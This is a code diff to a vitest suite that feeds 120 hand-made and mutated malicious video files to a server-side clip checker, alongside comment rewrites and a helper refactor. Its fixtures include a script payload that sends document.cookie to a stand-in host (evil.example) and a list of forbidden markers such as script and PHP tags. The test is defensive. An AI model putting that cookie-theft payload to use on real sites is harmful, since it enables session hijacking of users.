@@ -1,25 +1,17 @@
 import { deflateRawSync } from 'node:zlib'
 import { beforeAll, describe, expect, test } from 'vitest'
+import { dice } from '#src/kit/testing/dice.ts'
 import { makeClip } from '#src/kit/testing/make-clip.ts'
 import { checkClip } from './check-clip.server.ts'
 import { clipLimits } from './clip-limits.ts'
 import { ClipRefused } from './clip-refused.ts'
 import type { RemuxedClip } from './remux-clip.ts'
 
-/** Files as an attacker, or an old phone, would send them; made here, none is fetched. */
+/** Files as an attacker or an old phone would send them. The test makes them all and fetches none. */
 const COUNT = 120
 
 const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>'
 const FORBIDDEN = ['<script', '<?php', '<svg', '#EXTM3U', 'evil.example', 'PK\u0003\u0004', '©xyz', 'SECRET', '%PDF']
-
-/** The same files in every run. */
-function dice(seed: number): (max: number) => number {
-  let state = seed * 2_654_435_761 + 1
-  return (max) => {
-    state = (Math.imul(state ^ (state >>> 15), 2_246_822_519) + 0x9e37) >>> 0
-    return state % max
-  }
-}
 
 const text = (words: string) => Buffer.from(words, 'latin1')
 
@@ -31,14 +23,14 @@ function box(type: string, ...parts: (Buffer | number[])[]): Buffer {
   return Buffer.concat([head, body])
 }
 
-/** The size that stands before the first box of a type, written over. */
+/** Overwrites the size field of the first box of a type. */
 function withBoxSize(clip: Buffer, type: string, size: number): Buffer {
   const changed = Buffer.from(clip)
   changed.writeUInt32BE(size >>> 0, changed.indexOf(type, 0, 'latin1') - 4)
   return changed
 }
 
-/** Four bytes at so many after the name of the first such box. */
+/** Overwrites four bytes at an offset after the name of the first such box. */
 function withField(clip: Buffer, type: string, after: number, value: number): Buffer {
   const changed = Buffer.from(clip)
   const at = changed.indexOf(type, 0, 'latin1') + 4 + after
@@ -56,7 +48,7 @@ function nested(type: string, depth: number): Buffer {
 const ftyp = box('ftyp', text('isom\0\0\u0002\0isomiso2avc1mp41'))
 const EBML = Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878104428581021853806701ffffffffffffff', 'hex')
 
-/** The ways of an attacker who writes the file by hand. */
+/** Files that an attacker would construct by hand. */
 function written(mp4: Buffer, webm: Buffer): Record<string, Buffer> {
   const moov = mp4.indexOf('moov') - 4
   const trak = mp4.indexOf('trak') - 4
@@ -127,7 +119,7 @@ function written(mp4: Buffer, webm: Buffer): Record<string, Buffer> {
   }
 }
 
-/** Bytes changed, cut out, doubled and exchanged, as a bad line or somebody who tries would. */
+/** Changes, cuts, repeats and swaps bytes, as a bad connection or a fuzzer would. */
 function mutated(good: Buffer, seed: number): Buffer {
   const roll = dice(seed)
   const bytes = Buffer.from(good)
@@ -160,7 +152,7 @@ beforeAll(async () => {
 })
 
 describe('a hostile clip', () => {
-  test('of every kind we could think of is refused, or comes out clean', async () => {
+  test('of every known kind is refused or comes out clean', async () => {
     expect(files.length).toBe(COUNT)
     const taken: string[] = []
     for (const [name, bytes] of files) {
@@ -174,7 +166,7 @@ describe('a hostile clip', () => {
       ).toEqual([])
       expect(out.subarray(4, 8).toString('latin1') === 'ftyp' || out.readUInt32BE(0) === 0x1a45dfa3, name).toBe(true)
       expect(Math.ceil(clip.millis / 1000), name).toBeLessThanOrEqual(clipLimits.video.seconds + 1)
-      // Whole to whoever reads it again, and unchanged by that: what we show needs no mending.
+      // The output passes the check again unchanged, so served clips need no repair.
       const again = await answerTo(out)
       expect(again && { ...again, bytes: again.bytes.length }, name).toEqual({ ...clip, bytes: clip.bytes.length })
     }
@@ -182,7 +174,7 @@ describe('a hostile clip', () => {
   })
 })
 
-/** Those that are a whole clip with something beside it, which is left behind. */
+/** These are complete clips with extra data, which the rewrite drops. */
 const TAKEN = [
   'a clip with a page behind it',
   'a clip with an archive behind it',
